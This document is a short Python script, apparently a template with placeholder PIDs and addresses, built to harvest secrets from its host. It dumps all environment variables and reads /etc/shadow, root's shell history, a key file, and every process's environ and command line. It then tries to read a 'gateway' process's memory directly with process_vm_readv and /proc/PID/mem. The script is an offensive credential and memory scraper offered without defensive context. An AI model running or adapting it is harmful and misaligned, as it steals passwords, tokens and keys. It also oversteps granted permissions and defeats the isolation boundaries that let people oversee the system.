# Looks for anything of the host: its environment, the gateway's memory, tokens and keys.
import ctypes, glob, os

for name, value in os.environ.items():
    print(f"{name}={value}")

def show(path):
    try:
        with open(path, "rb") as file:
            print(path, file.read(1 << 16).replace(b"\0", b"\n").decode("utf-8", "replace"))
    except OSError as error:
        print(path, error.strerror)

for path in ["/proc/GATEWAY_PID/environ", "/proc/GATEWAY_PID/maps", "KEY_FILE", "/etc/shadow", "/root/.bash_history"]:
    show(path)
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    show(path)

class Range(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
ours, theirs = Range(ctypes.addressof(buffer), 4096), Range(ADDRESS, 4096)
got = libc.process_vm_readv(GATEWAY_PID, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
print("process_vm_readv:", got, buffer.raw.decode("latin-1") if got > 0 else os.strerror(ctypes.get_errno()))
try:
    with open("/proc/GATEWAY_PID/mem", "rb") as memory:
        memory.seek(ADDRESS)
        print("mem:", memory.read(4096).decode("latin-1"))
except OSError as error:
    print("mem:", error.strerror)
